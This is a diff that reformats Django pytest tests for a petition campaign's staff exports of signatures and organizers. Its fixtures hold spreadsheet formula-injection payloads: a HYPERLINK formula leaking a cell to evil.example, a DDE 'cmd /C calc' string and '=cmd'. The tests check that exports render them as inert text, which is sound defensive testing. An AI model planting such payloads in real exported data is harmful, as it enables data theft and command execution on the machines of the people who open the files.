@@ -21,11 +21,17 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 @pytest.fixture
 def signature(campaign) -> Signature:
     return Signature.objects.create(
-        campaign=campaign, first_name=FORMULA, last_name="+1+cmd|' /C calc'!A0",
-        email="mallory@example.org", email_index=crypto.blind_index("mallory@example.org"),
-        zip_code="94110", state="CA", district="CA-11", comment="@SUM(1+1)",
+        campaign=campaign,
+        first_name=FORMULA,
+        last_name="+1+cmd|' /C calc'!A0",
+        email="mallory@example.org",
+        email_index=crypto.blind_index("mallory@example.org"),
+        zip_code="94110",
+        state="CA",
+        district="CA-11",
+        comment="@SUM(1+1)",
         status=Signature.Status.CONFIRMED,
-    )  # fmt: skip
+    )
 
 
 def content(response) -> bytes:
@@ -51,8 +57,11 @@ def test_xlsx_export_writes_text_cells_never_formulas(staff_client, signature):
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     book = zipfile.ZipFile(io.BytesIO(content(response)))
     sheet = book.read("xl/worksheets/sheet1.xml").decode()
-    strings = sheet + (book.read("xl/sharedStrings.xml").decode()
-                       if "xl/sharedStrings.xml" in book.namelist() else "")  # fmt: skip
+    strings = sheet + (
+        book.read("xl/sharedStrings.xml").decode()
+        if "xl/sharedStrings.xml" in book.namelist()
+        else ""
+    )
     assert "<f>" not in sheet  # no cell holds a formula
     # An inline string cell (t="inlineStr"): text, whatever it starts with.
     assert '<is><t>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click")</t></is>' in strings
@@ -65,10 +74,18 @@ def test_unknown_formats_are_not_found(staff_client, signature):
 
 def test_organizer_export_needs_the_organizer_role(staff_client):
     Organizer.objects.create(
-        name="=cmd", email="o@example.org", email_index=crypto.blind_index("o@example.org"),
-        city="Austin", state="TX", zip_code="78701", role="resident", uses_alpr="yes",
-        vendor="flock", stage="vote", confirmed_at="2026-11-01T00:00:00Z",
-    )  # fmt: skip
+        name="=cmd",
+        email="o@example.org",
+        email_index=crypto.blind_index("o@example.org"),
+        city="Austin",
+        state="TX",
+        zip_code="78701",
+        role="resident",
+        uses_alpr="yes",
+        vendor="flock",
+        stage="vote",
+        confirmed_at="2026-11-01T00:00:00Z",
+    )
     assert staff_client("Aggregates only").get("/staff/organizers.csv").status_code == 403
     network = staff_client("Organizer network", name="olga")
     rows = list(csv.DictReader(io.StringIO(content(network.get("/staff/organizers.csv")).decode())))
@@ -82,14 +99,23 @@ def test_the_command_line_export_is_audited_and_personal_only_when_asked(signatu
     out = tmp_path / "s.csv"
     # One process: workers would open their own connection, which cannot see the test's
     # uncommitted rows (the parallel path is measured by bench/export.py).
-    call_command("export_signatures", "stop-alprs", "--out", str(out), "--jobs", "1",
-                 stdout=io.StringIO())  # fmt: skip
+    call_command(
+        "export_signatures", "stop-alprs", "--out", str(out), "--jobs", "1", stdout=io.StringIO()
+    )
     assert (
         out.read_text().splitlines()[0]
         == "zip_code,state,district,source,status,standing,signed_on"
     )
-    call_command("export_signatures", "stop-alprs", "--out", str(out), "--personal",
-                 "--format", "xlsx", stdout=io.StringIO())  # fmt: skip
+    call_command(
+        "export_signatures",
+        "stop-alprs",
+        "--out",
+        str(out),
+        "--personal",
+        "--format",
+        "xlsx",
+        stdout=io.StringIO(),
+    )
     assert "mallory@example.org" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
     assert AuditEntry.objects.filter(action="export").count() == 2
 
@@ -97,10 +123,16 @@ def test_the_command_line_export_is_audited_and_personal_only_when_asked(signatu
 def _signed(campaign, name: str, **fields) -> Signature:
     email = f"{name}@example.org"
     return Signature.objects.create(
-        campaign=campaign, first_name=name, last_name="X", email=email,
-        email_index=crypto.blind_index(email), zip_code="94110", state="CA", district="CA-11",
+        campaign=campaign,
+        first_name=name,
+        last_name="X",
+        email=email,
+        email_index=crypto.blind_index(email),
+        zip_code="94110",
+        state="CA",
+        district="CA-11",
         **fields,
-    )  # fmt: skip
+    )
 
 
 @pytest.fixture
@@ -124,14 +156,20 @@ def test_the_export_says_where_each_signature_stands_and_holds_what_counts(
 ):
     staff = staff_client()
     assert standings_in(staff.get("/staff/c/stop-alprs/signatures.csv")) == {
-        "online": "counted", "paper": "paper",
-    }  # fmt: skip
-    everything = "&".join(f"standing={k}" for k in ("counted", "paper", "pending", "suspect",
-                                                    "invalid"))  # fmt: skip
+        "online": "counted",
+        "paper": "paper",
+    }
+    everything = "&".join(
+        f"standing={k}" for k in ("counted", "paper", "pending", "suspect", "invalid")
+    )
     assert standings_in(staff.get(f"/staff/c/stop-alprs/signatures.csv?{everything}")) == {
-        "online": "counted", "paper": "paper", "pending": "pending", "suspect": "suspect",
-        "held": "suspect", "invalid": "invalid",
-    }  # fmt: skip
+        "online": "counted",
+        "paper": "paper",
+        "pending": "pending",
+        "suspect": "suspect",
+        "held": "suspect",
+        "invalid": "invalid",
+    }
     held = staff.get("/staff/c/stop-alprs/signatures.csv?standing=suspect&standing=pending")
     assert held["Content-Disposition"].endswith('signatures-pending-suspect.csv"')
     assert standings_in(held) == {"pending": "pending", "suspect": "suspect", "held": "suspect"}
@@ -158,7 +196,17 @@ def test_the_command_line_chooses_standings_too(campaign, every_standing, tmp_pa
     from django.core.management import call_command
 
     out = tmp_path / "held.csv"
-    call_command("export_signatures", "stop-alprs", "--out", str(out), "--personal",
-                 "--standing", "invalid", "--jobs", "1", verbosity=0)  # fmt: skip
+    call_command(
+        "export_signatures",
+        "stop-alprs",
+        "--out",
+        str(out),
+        "--personal",
+        "--standing",
+        "invalid",
+        "--jobs",
+        "1",
+        verbosity=0,
+    )
     rows = list(csv.DictReader(out.open()))
     assert [(r["first_name"], r["standing"]) for r in rows] == [("invalid", "invalid")]
